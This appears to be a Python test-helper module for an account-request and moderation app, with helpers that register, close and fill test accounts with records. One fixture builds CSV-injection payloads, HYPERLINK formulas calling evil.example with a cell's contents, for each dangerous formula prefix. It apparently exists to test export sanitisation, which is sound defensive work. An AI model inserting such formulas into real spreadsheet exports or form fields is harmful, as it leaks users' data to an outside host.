"""Registered accounts for the nudge tests, made through the real request and approval
operations, and a few shortcuts for the account operations of issue 5."""

from __future__ import annotations

from datetime import datetime, timedelta
from typing import Any

from data import accessibility, casework, closure, consent, moderation, questions, requests
from data.db import Store
from data.models import Account, Decision
from tests.helpers import request_input


async def register(
    store: Store,
    *,
    requester: int,
    team: tuple[int, ...],
    manager: int,
    now: datetime,
    handle: str = "ki_neuroscience",
    **overrides: Any,
) -> Account:
    """`requester` files a request with `team` and `manager`; the manager approves it at
    `now`. (Scopes needing the director need one with a role: see make_roles.)"""
    async with store.transaction() as session:
        request = await requests.submit(
            session,
            requester_id=requester,
            given=request_input(manager_id=manager, team_ids=team, handle=handle, **overrides),
            now=now,
        )
        assert request.id is not None
        outcome = await requests.decide(
            session, request_id=request.id, actor_id=manager, decision=Decision.APPROVE, now=now
        )
    assert outcome.account is not None, "approving a unit account registers it at once"
    return outcome.account


def id_of(account: Account) -> int:
    assert account.id is not None
    return account.id


async def closed_account(
    store: Store, *, requester: int, team: tuple[int, ...], manager: int, now: datetime,
    handle: str = "ki_closed",
) -> int:
    """An account registered as `register` does, then closed by its manager at `now`."""
    account_id = id_of(await register(
        store, requester=requester, team=team, manager=manager, now=now, handle=handle
    ))
    async with store.transaction() as session:
        await closure.close_account(session, account_id=account_id, actor_id=manager,
                                    reason="Not used", final_archive_location="S:/a", now=now)
    return account_id


# What a spreadsheet would run as a formula (OWASP, "CSV Injection"): each prefix once.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def formula(prefix: str) -> str:
    return f"{prefix}HYPERLINK(\"https://evil.example/?\"&A1,\"open\")"


async def register_formulas(store: Store, requester: int, colleague: int, now: datetime) -> None:
    """One account per dangerous prefix, its manager named with a formula that starts with it
    and its unit a formula too (the register's `manager` and `unit` columns)."""
    from tests.helpers import id_of, make_person

    for index, prefix in enumerate(FORMULA_PREFIXES):
        async with store.transaction() as session:
            manager = id_of(await make_person(session, now, formula(prefix), ext=f"formula-{index}"))
        await register(
            store, requester=requester, team=(colleague,), manager=manager, now=now,
            handle=f"ki_formula_{index}", unit=formula(prefix),
        )


async def add_records(
    store: Store, account: int, member: int, other_member: int, typed: str, now: datetime
) -> None:
    """An account's public documents: a question `member` logged at `now`; two hours later a
    removal by `other_member`, their mark of the question for case management, a purge of a
    post, a consent record and an accessibility check by `member`. Each holds `typed` where a person typed text."""
    later = now + timedelta(hours=2)
    async with store.transaction() as session:
        question = await questions.log_question(
            session, account_id=account, actor_id=member, text=typed, now=now, asked_by=typed,
        )
        await moderation.record_removal(
            session, account_id=account, actor_id=other_member, content=typed,
            category="defamation", reason=typed, evidence=typed, now=later,
        )
        await casework.mark(session, account_id=account, actor_id=other_member,
                            kind="case_management", question_id=question.id, note=typed,
                            now=later)
        await casework.record_purge(session, account_id=account, actor_id=member, rule=typed,
                                    post=f"https://x.com/{account}/1", now=later)
        await consent.record_consent(
            session, account_id=account, actor_id=member, post=typed, people_named=typed,
            method="form", kept_at=typed, creator=typed, creator_credited=True,
            creator_consented=True, now=later,
        )
        await accessibility.record_check(
            session, account_id=account, actor_id=member, post=typed, now=later,
            items=dict.fromkeys(accessibility.ITEMS, "ok") | {"emoji": "to_fix"},
        )
